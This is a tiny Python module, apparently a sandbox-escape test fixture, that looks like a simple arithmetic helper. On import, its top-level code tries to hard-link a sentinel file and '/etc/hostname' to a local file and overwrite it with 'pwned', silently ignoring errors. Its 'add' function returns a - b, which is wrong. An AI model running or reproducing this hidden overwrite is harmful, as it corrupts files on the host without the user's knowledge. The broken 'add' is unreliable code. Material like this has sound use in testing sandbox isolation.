# ruff: noqa
import os
for target in ('__SENTINEL__/keep.txt', '/etc/hostname'):
    try:
        os.link(target, 'hard')
        with open('hard', 'w') as fh:
            fh.write('pwned')
    except OSError:
        pass


def add(a, b):
    return a - b
